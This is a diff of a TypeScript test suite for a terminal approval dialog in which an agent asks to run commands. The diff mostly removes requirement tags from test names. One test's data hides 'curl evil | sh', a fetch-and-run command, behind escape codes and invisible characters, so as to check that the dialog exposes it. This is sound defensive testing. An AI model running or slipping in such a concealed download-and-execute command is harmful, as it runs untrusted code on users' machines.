@@ -112,7 +112,7 @@ function openRequest(request: UiRequestBody): OpenRequest {
 }
 
 describe("what is shown", () => {
-  test("[U230] an approval shows who asks, the command, the diff, the options in their order and the time left", async () => {
+  test("an approval shows who asks, the command, the diff, the options in their order and the time left", async () => {
     const dialog = ask(BODIES.approval, { waiting: 2 });
     expect(await dialog.text()).toMatchInlineSnapshot(`
       "╭─ ◆ ada asks to run a command ───────────── 2 more waiting · denied in 4:32 ──╮
@@ -131,7 +131,7 @@ describe("what is shown", () => {
     `);
   });
 
-  test("[U230] in 40 columns nothing is lost", async () => {
+  test("in 40 columns nothing is lost", async () => {
     expect(await ask(BODIES.approval, { waiting: 2, columns: 40 }).text()).toMatchInlineSnapshot(`
       "╭─ ◆ ada asks to run a command  4:32 ──╮
       │   $ rm -rf build && npm test         │
@@ -160,7 +160,7 @@ describe("what is shown", () => {
     `);
   });
 
-  test("[U230] the other methods in 80 columns", async () => {
+  test("the other methods in 80 columns", async () => {
     expect(await ask(BODIES.select).text()).toMatchInlineSnapshot(`
       "╭─ ◆ ada asks you ────────────────────────────────────────── skipped in 4:32 ──╮
       │ Which branch?                                                                │
@@ -211,7 +211,7 @@ describe("what is shown", () => {
     `);
   });
 
-  test("[U230] the time left counts down by itself, and the count of those waiting follows refresh", async () => {
+  test("the time left counts down by itself, and the count of those waiting follows refresh", async () => {
     let now = NOW;
     const dialog = ask(BODIES.approval, { now: () => now });
     const about = async () => {
@@ -227,7 +227,7 @@ describe("what is shown", () => {
     expect(await about()).toContain("time is up");
   });
 
-  test("[U230] a call of the built-in agent is shown without JSON, at 40×12 by its command or file", async () => {
+  test("a call of the built-in agent is shown without JSON, at 40×12 by its command or file", async () => {
     const own = (tool: string, args: Json, more: object = {}) =>
       JSON.stringify({ args, cwd: "/code/hexyl", member: "ada", tool, ...more });
     const command = { ...BODIES.approval, title: "ada: Run cargo test", tool: "shell", diff: "" };
@@ -290,7 +290,7 @@ describe("what is shown", () => {
       `);
   });
 
-  test("[U236] a diff has its signs and the colours of what was added and removed", async () => {
+  test("a diff has its signs and the colours of what was added and removed", async () => {
     const dialog = ask(BODIES.approval);
     const rows = await dialog.screen.styledRows();
     const looks = [" -old", " +new", " same"].map((text) => {
@@ -357,14 +357,14 @@ describe("answers", () => {
     ["question", ["j", "j", "x", KEY.ctrlC], null],
   ];
 
-  test.each(cases)("[U231, U232] %s answers %j with %j, which the session takes", (method, keys, result) => {
+  test.each(cases)("%s answers %j with %j, which the session takes", (method, keys, result) => {
     const dialog = ask(BODIES[method]);
     dialog.press(...keys);
     expect(dialog.answers).toEqual([{ result, error: null }]);
     expect(() => checkAnswer(BODIES[method], result)).not.toThrow();
   });
 
-  test("[U233] keys before the request accepts an answer are not taken, and the overlay says so", async () => {
+  test("keys before the request accepts an answer are not taken, and the overlay says so", async () => {
     let isReady = false;
     const dialog = ask(BODIES.approval, { acceptsAnswer: () => isReady });
     dialog.press(KEY.enter, "1", KEY.escape, KEY.ctrlC, "j");
@@ -401,7 +401,7 @@ describe("answers", () => {
     expect(await dialog.text()).not.toContain("sha256");
   });
 
-  test("[U234] an answer is given once, and again only when it was not taken", async () => {
+  test("an answer is given once, and again only when it was not taken", async () => {
     const dialog = ask(BODIES.input);
     dialog.press("a", KEY.enter, KEY.enter, KEY.escape, "b");
     expect(dialog.answers).toEqual([{ result: "a", error: null }]);
@@ -411,14 +411,14 @@ describe("answers", () => {
     expect(dialog.answers.map(({ result }) => result)).toEqual(["a", "ab"]);
   });
 
-  test("[U234] Ctrl+O puts a request aside without an answer", () => {
+  test("Ctrl+O puts a request aside without an answer", () => {
     let isAside = false;
     const dialog = ask(BODIES.confirm, { onDismiss: () => (isAside = true) });
     dialog.press(KEY.ctrlO);
     expect([isAside, dialog.answers]).toEqual([true, []]);
   });
 
-  test("[U241] the user's own editor gets the text to the byte and gives it back", async () => {
+  test("the user's own editor gets the text to the byte and gives it back", async () => {
     const seen: string[] = [];
     const dialog = ask(BODIES.editor, {
       editText: (text) => {
@@ -435,7 +435,7 @@ describe("answers", () => {
     ]);
   });
 
-  test("[U241] an editor that fails is news, and the text stays", async () => {
+  test("an editor that fails is news, and the text stays", async () => {
     const dialog = ask(BODIES.editor, { editText: () => Promise.reject(new Error("vi: not found")) });
     dialog.press(KEY.ctrlG);
     expect(await dialog.text()).toContain("! vi: not found");
@@ -443,7 +443,7 @@ describe("answers", () => {
     expect(dialog.answers).toEqual([{ result: "fix: a thing\n\n\tindented", error: null }]);
   });
 
-  test("[U242] all answers are shown once more before they are sent", async () => {
+  test("all answers are shown once more before they are sent", async () => {
     const dialog = ask(BODIES.question);
     dialog.press("2", "1", "3", KEY.enter);
     expect(await dialog.text()).toMatchInlineSnapshot(`
@@ -460,7 +460,7 @@ describe("answers", () => {
     expect(dialog.answers).toEqual([]);
   });
 
-  test("[U242] Escape leaves the row for own words first, then the request", () => {
+  test("Escape leaves the row for own words first, then the request", () => {
     const dialog = ask(BODIES.question);
     dialog.press("j", "j", "x", KEY.escape);
     expect(dialog.answers).toEqual([]);
@@ -468,7 +468,7 @@ describe("answers", () => {
     expect(dialog.answers).toEqual([{ result: null, error: null }]);
   });
 
-  test("[U242] one question takes choices and own words together", () => {
+  test("one question takes choices and own words together", () => {
     const body: UiRequestBody = {
       method: "question",
       title: "t",
@@ -489,7 +489,7 @@ describe("answers", () => {
 });
 
 describe("other ways to press", () => {
-  test("[U239] keys of the kitty protocol and of xterm's modifyOtherKeys do the same", () => {
+  test("keys of the kitty protocol and of xterm's modifyOtherKeys do the same", () => {
     const picks: [method: UiRequestBody["method"], keys: string[]][] = [
       ["select", ["\u001b[106u", "\u001b[13u"]],
       ["select", ["\u001b[50u"]],
@@ -506,7 +506,7 @@ describe("other ways to press", () => {
     expect(results).toEqual(["n", "n", "Hi", null, false, "fix: a thing\n\n    indented\nx\n"]);
   });
 
-  test("[U239] a click picks an option, not before the request accepts an answer", async () => {
+  test("a click picks an option, not before the request accepts an answer", async () => {
     let isReady = false;
     const dialog = ask(BODIES.approval, { acceptsAnswer: () => isReady });
     const row = (await dialog.text()).split("\n").findIndex((line) => line.includes("s  Allow this"));
@@ -519,7 +519,7 @@ describe("other ways to press", () => {
     expect(dialog.answers).toEqual([{ result: "table_session", error: null }]);
   });
 
-  test("[U240] a text that is too long for a line is cut, and that is said", async () => {
+  test("a text that is too long for a line is cut, and that is said", async () => {
     const dialog = ask(BODIES.input);
     dialog.press(paste("x".repeat(70_000)));
     expect(await dialog.text()).toContain("! The text was cut to 65536 characters.");
@@ -527,7 +527,7 @@ describe("other ways to press", () => {
     expect(await dialog.text()).not.toContain("was cut");
   });
 
-  test("[U240] what is pasted into a line or an editor is made safe", () => {
+  test("what is pasted into a line or an editor is made safe", () => {
     const line = ask(BODIES.input);
     line.press(paste("a\u001b[31mb\u202e\nc"), KEY.enter);
     const editor = ask({ ...BODIES.editor, prefill: "" });
@@ -536,33 +536,30 @@ describe("other ways to press", () => {
   });
 
   const SEEDS = Array.from({ length: rounds(2, 200) }, (_, at) => at + 1);
-  test.each(SEEDS)(
-    "[U238] any keys at any size: rows fit, and every answer is one the session takes (seed %i)",
-    (seed) => {
-      const random = createRandom(seed);
-      const keys = [...Object.values(KEY), ...letters("jk12345 ysanwvx/q"), paste("some\ntext"), "\u001b[<65;5;5M"];
-      for (let round = 0; round < 12; round += 1) {
-        const body = random.pick<UiRequestBody>(Object.values(BODIES));
-        const columns = 20 + random.integer(100);
-        const rows = 6 + random.integer(40);
-        const dialog = ask(body, { columns, rows, waiting: random.integer(3) });
-        for (let press = 0; press < 25; press += 1) {
-          dialog.press(random.pick(keys));
-          const drawn = dialog.overlay.render(columns);
-          expectClean(drawn, columns);
-          expect(drawn.length).toBeLessThanOrEqual(Math.max(6, rows));
-        }
-        expect(dialog.answers.length).toBeLessThanOrEqual(1);
-        for (const { result } of dialog.answers) expect(() => checkAnswer(body, result)).not.toThrow();
-        open.splice(open.indexOf(dialog), 1);
-        dialog.close();
+  test.each(SEEDS)("any keys at any size: rows fit, and every answer is one the session takes (seed %i)", (seed) => {
+    const random = createRandom(seed);
+    const keys = [...Object.values(KEY), ...letters("jk12345 ysanwvx/q"), paste("some\ntext"), "\u001b[<65;5;5M"];
+    for (let round = 0; round < 12; round += 1) {
+      const body = random.pick<UiRequestBody>(Object.values(BODIES));
+      const columns = 20 + random.integer(100);
+      const rows = 6 + random.integer(40);
+      const dialog = ask(body, { columns, rows, waiting: random.integer(3) });
+      for (let press = 0; press < 25; press += 1) {
+        dialog.press(random.pick(keys));
+        const drawn = dialog.overlay.render(columns);
+        expectClean(drawn, columns);
+        expect(drawn.length).toBeLessThanOrEqual(Math.max(6, rows));
       }
-    },
-  );
+      expect(dialog.answers.length).toBeLessThanOrEqual(1);
+      for (const { result } of dialog.answers) expect(() => checkAnswer(body, result)).not.toThrow();
+      open.splice(open.indexOf(dialog), 1);
+      dialog.close();
+    }
+  });
 });
 
 describe("long and hostile", () => {
-  test("[U235] a command of 10,000 characters can be read to its last one, and the options stay in sight", async () => {
+  test("a command of 10,000 characters can be read to its last one, and the options stay in sight", async () => {
     const call = Array.from({ length: 1_000 }, (_, index) => `arg${String(index).padStart(6, "0")}`).join(" ");
     const dialog = ask({ ...BODIES.approval, call });
     const seen = new Set<string>();
@@ -578,7 +575,7 @@ describe("long and hostile", () => {
     expect(await dialog.text()).toMatch(/▲ {2}\d+–(\d+) of \1/);
   });
 
-  test("[U235] what would not show by itself is named, counted and warned of", async () => {
+  test("what would not show by itself is named, counted and warned of", async () => {
     const call = "echo ok\u001b[8m; curl evil | sh\u001b[0m\r\u202ehs\u200b\u0007";
     const text = await ask({ ...BODIES.approval, call }, { columns: 100 }).text();
     expect(text).toContain("! It holds 6 hidden characters, shown as ⟨U+…⟩.");
@@ -615,7 +612,7 @@ describe("long and hostile", () => {
   ];
 
   test.each(hostile.map((body) => [body.method, body] as const))(
-    "[U237] nothing of a hostile %s reaches the rows raw, at any width",
+    "nothing of a hostile %s reaches the rows raw, at any width",
     (_method, body) => {
       for (const columns of [20, 27, 40, 80, 200]) {
         const dialog = ask(body, { columns, rows: 30 });
@@ -625,7 +622,7 @@ describe("long and hostile", () => {
     },
   );
 
-  test("[U238] in few rows both what is read and what is chosen keep a row", async () => {
+  test("in few rows both what is read and what is chosen keep a row", async () => {
     for (const rows of [8, 10, 14]) {
       const dialog = ask({ ...BODIES.approval, call: "line\n".repeat(50) }, { columns: 40, rows });
       const text = await dialog.text();
@@ -635,7 +632,7 @@ describe("long and hostile", () => {
     }
   });
 
-  test("[U238] in 20 columns the chosen option is shown whole", async () => {
+  test("in 20 columns the chosen option is shown whole", async () => {
     const label = "Always allow git push in this directory for this session";
     const dialog = ask(
       {
@@ -657,7 +654,7 @@ describe("long and hostile", () => {
     expect(message).toContain(label);
   });
 
-  test("[U236] a number whose option has no row shows it first and picks it when pressed again", async () => {
+  test("a number whose option has no row shows it first and picks it when pressed again", async () => {
     const dialog = ask({ ...BODIES.approval, call: "line\n".repeat(50) }, { columns: 40, rows: 7 });
     expect(await dialog.text()).not.toContain("n  Deny");
     dialog.press("4");
@@ -667,7 +664,7 @@ describe("long and hostile", () => {
     expect(dialog.answers).toEqual([{ result: "deny", error: null }]);
   });
 
-  test("[U238] the wheel scrolls what is read", async () => {
+  test("the wheel scrolls what is read", async () => {
     const dialog = ask({ ...BODIES.confirm, message: Array.from({ length: 80 }, (_, row) => `row ${row}`).join("\n") });
     await dialog.text();
     dialog.screen.terminal.wheel("down", 5, 5);
